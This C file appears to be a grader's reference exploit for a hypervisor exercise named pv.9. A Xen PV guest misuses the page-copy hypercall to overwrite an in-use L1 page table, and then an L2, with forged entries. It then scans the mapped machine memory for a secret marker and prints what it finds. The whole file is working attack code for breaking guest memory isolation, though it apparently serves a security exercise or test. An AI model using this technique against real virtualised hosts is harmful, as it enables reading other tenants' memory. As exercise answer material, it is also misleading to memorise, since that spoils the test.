/*
 * The grader's own attack on the weakness of exercise pv.9, by more ways than one: a page is copied
 * onto an L1 that is in use, and onto an L2.
 */
#include "kit/hypercall.h"
#include "kit/kit.h"
#include "kit/pv.h"

#include <xen/sched.h>

const char guest_name[] = "pv-guest_rival";

enum { YIELDS = 40, MACHINE_FRAMES = 131072 };
#define SECRET_MARK 0x5345435245543a20ULL
#define WINDOW      0x40000000ULL

static u64 *table, *page;

static u64 frame_of_page(const void *p)
{
    return pv_machine((u64)p) >> PAGE_SHIFT;
}

static s64 mmuext(unsigned command, u64 mfn, u64 src_mfn)
{
    struct mmuext_op op = {.cmd = command};

    op.arg1.mfn = mfn;
    op.arg2.src_mfn = src_mfn;
    return hypercall4(__HYPERVISOR_mmuext_op, (u64)&op, 1, 0, DOMID_SELF);
}

static bool copy(const void *to, const void *from)
{
    bool done = !mmuext(MMUEXT_COPY_PAGE, frame_of_page(to), frame_of_page(from));

    mmuext(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
    return done;
}

static u64 look(void)
{
    for (u64 i = 0; i < TABLE_ENTRIES; i++) {
        const volatile u64 *p = (const volatile u64 *)(WINDOW + i * PAGE_SIZE);

        if (p[0] == SECRET_MARK)
            return p[1];
    }
    return 0;
}

static void fill(u64 first)
{
    for (u64 i = 0; i < TABLE_ENTRIES; i++)
        page[i] = (first + i) << PAGE_SHIFT | ENTRY_PRESENT | ENTRY_USER;
}

/* The window's L1 gets entries that nobody has checked. */
static u64 by_level1(void)
{
    u64 *empty = page_alloc_zeroed(), found = 0;

    for (u64 first = 0; first < MACHINE_FRAMES && !found; first += TABLE_ENTRIES) {
        fill(first);
        if (!copy(table, page))
            break;
        found = look();
        copy(table, empty);
    }
    return found;
}

/* The L2 above it comes to lead to a page that is mapped writable. */
static u64 by_level2(void)
{
    const u64 *level2 =
        (const u64 *)platform->entry_pa(*space_entry(&kernel_space, WINDOW, 3, false));
    u64 *now = page_alloc_zeroed(), *forged = page_alloc_zeroed(), found = 0;

    for (unsigned i = 0; i < TABLE_ENTRIES; i++)
        now[i] = forged[i] = level2[i];
    forged[WINDOW / LARGE_PAGE_SIZE % TABLE_ENTRIES] =
        frame_of_page(page) << PAGE_SHIFT | ENTRY_USER_RW;
    fill(0);
    if (!copy(level2, forged))
        return 0;
    for (u64 first = 0; first < MACHINE_FRAMES && !found; first += TABLE_ENTRIES) {
        fill(first);
        mmuext(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
        found = look();
    }
    copy(level2, now);
    return found;
}

void guest_main(void)
{
    u64 found;

    space_entry(&kernel_space, WINDOW, 1, true);
    table = (u64 *)platform->entry_pa(*space_entry(&kernel_space, WINDOW, 2, false));
    page = page_alloc_zeroed();
    for (unsigned i = 0; i < YIELDS; i++)
        hypercall2(__HYPERVISOR_sched_op, SCHEDOP_yield, 0);
    found = by_level1();
    if (!found)
        found = by_level2();
    if (found)
        print("@loot %016lx\n", found);
    else
        print("The attack has found nothing.\n");
}
